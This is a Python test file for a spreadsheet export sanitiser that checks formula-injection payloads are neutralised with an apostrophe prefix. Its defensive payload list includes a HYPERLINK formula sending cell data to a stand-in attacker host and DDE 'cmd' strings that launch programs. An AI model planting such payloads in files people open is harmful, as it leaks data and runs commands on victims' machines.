"""Spreadsheet formula injection: text cells that Excel/LibreOffice would evaluate are neutralised."""

from __future__ import annotations

import csv
import io
import math

import openpyxl
import pandas as pd
import pytest

from motcua.safe_export import XLSXWRITER_OPTIONS, is_dangerous, neutralize_formulas, neutralize_value

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    "-",  # alone it is harmless, see SAFE
]
SAFE = ["Đăng ký khai sinh", "", "-2,5", "+3", "-12,75%", "-2,5 điểm %", "1.277", "-", "--", "a=b", "x+y", "email@x.vn"]


@pytest.mark.parametrize("text", [p for p in PAYLOADS if p != "-"])
def test_payloads_get_an_apostrophe(text):
    assert is_dangerous(text)
    # After a tab the rest is a cell of its own once a spreadsheet splits the line: neutralised too.
    assert neutralize_value(text) == {"\t=1+1": "'\t'=1+1"}.get(text, "'" + text)


@pytest.mark.parametrize("text", SAFE)
def test_plain_text_and_bare_numbers_are_untouched(text):
    assert not is_dangerous(text)
    assert neutralize_value(text) == text


def test_non_text_values_keep_their_type():
    for value in (5, -3, 2.5, -0.25, None, True, pd.Timestamp("2025-08-01"), float("nan")):
        result = neutralize_value(value)
        assert result is value or (isinstance(value, float) and math.isnan(result))


def _hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "Mã hồ sơ": ["=1+1", "H-001", "@evil"],
        "Số hồ sơ": [1, -2, 3],
        "Tỷ lệ": [0.5, -0.25, None],
        "Ngày": pd.to_datetime(["2025-08-01", "2025-08-02", None]),
        "Đơn vị": pd.Categorical(["Xã Tứ Kỳ", "+cmd|' /C calc'!A0", "Xã Tứ Kỳ"]),
        "Ghi chú": pd.array(["-1+1", None, "bình thường"], dtype="string"),
        "=Tiêu đề": ["a", "b", "c"],
    })


def test_frame_is_neutralised_and_numbers_stay_numeric():
    frame = _hostile_frame()
    safe = neutralize_formulas(frame)
    assert safe["Mã hồ sơ"].tolist() == ["'=1+1", "H-001", "'@evil"]
    assert safe["Đơn vị"].tolist() == ["Xã Tứ Kỳ", "'+cmd|' /C calc'!A0", "Xã Tứ Kỳ"]
    assert safe["Ghi chú"].tolist()[0] == "'-1+1" and pd.isna(safe["Ghi chú"].tolist()[1])
    assert list(safe.columns)[-1] == "'=Tiêu đề"
    for column in ("Số hồ sơ", "Tỷ lệ", "Ngày"):
        assert safe[column].dtype == frame[column].dtype
        pd.testing.assert_series_equal(safe[column], frame[column])
    assert frame["Mã hồ sơ"].tolist()[0] == "=1+1", "the input frame must not be modified"


def test_multiindex_labels_are_neutralised():
    frame = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("=a", "x"), ("b", "@y")]),
                         index=pd.Index(["=r"], name="đơn vị"))
    safe = neutralize_formulas(frame)
    assert list(safe.columns) == [("'=a", "x"), ("b", "'@y")]
    assert list(safe.index) == ["'=r"] and safe.index.name == "đơn vị"


def test_csv_download_has_no_live_formula():
    text = neutralize_formulas(_hostile_frame()).to_csv(index=False)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not is_dangerous(cell), cell


def test_xlsx_download_has_no_formula_cell():
    buffer = io.BytesIO()
    neutralize_formulas(_hostile_frame()).to_excel(buffer, index=False, engine="xlsxwriter",
                                                   engine_kwargs={"options": XLSXWRITER_OPTIONS})
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    numbers = [cell.value for cell in sheet["B"][1:]]
    assert numbers == [1, -2, 3]  # still numbers, not text


def test_xlsxwriter_default_would_have_written_a_formula():
    """Why XLSXWRITER_OPTIONS matters: by default xlsxwriter turns '=...' strings into formulas."""
    buffer = io.BytesIO()
    pd.DataFrame({"x": ["=1+1"]}).to_excel(buffer, index=False, engine="xlsxwriter")
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet["A2"].data_type == "f"
